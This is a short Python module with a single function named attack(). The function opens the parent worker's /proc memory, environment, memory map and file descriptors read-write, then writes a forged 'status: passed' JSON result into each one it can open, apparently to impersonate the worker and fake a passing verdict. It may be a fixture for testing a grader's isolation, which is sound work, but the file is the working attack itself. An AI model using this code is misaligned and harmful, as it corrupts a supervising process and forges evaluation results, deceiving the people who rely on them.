"""Looks for the worker's memory and descriptors, to speak in its name."""

import os


def attack(*args, **kwargs):
    parent = f"/proc/{os.getppid()}"
    opened = []
    for name in ("mem", "environ", "maps", *(f"fd/{number}" for number in range(64))):
        try:
            opened.append(os.open(f"{parent}/{name}", os.O_RDWR))
        except OSError:
            continue
    for descriptor in opened:
        os.write(descriptor, b'{"code": 0, "status": "passed"}\n')
    return None
